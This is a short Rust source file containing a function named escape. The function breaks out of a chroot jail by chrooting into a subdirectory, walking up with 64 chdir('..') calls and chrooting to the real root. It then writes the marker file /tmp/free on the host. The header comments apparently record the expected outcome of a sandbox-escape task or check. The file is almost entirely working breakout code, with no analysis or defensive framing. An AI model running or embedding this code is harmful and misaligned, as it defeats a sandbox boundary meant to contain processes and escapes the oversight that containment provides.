// refused with: what your function leaves on the host
// refused with: + file: /tmp/free

use std::fs;

use anyhow::Result;
use nix::unistd::{chdir, chroot};

fn escape() -> Result<()> {
    fs::create_dir("deeper")?;
    chroot("deeper")?;
    for _ in 0..64 {
        chdir("..")?;
    }
    chroot(".")?;
    fs::write("/tmp/free", "")?;
    Ok(())
}
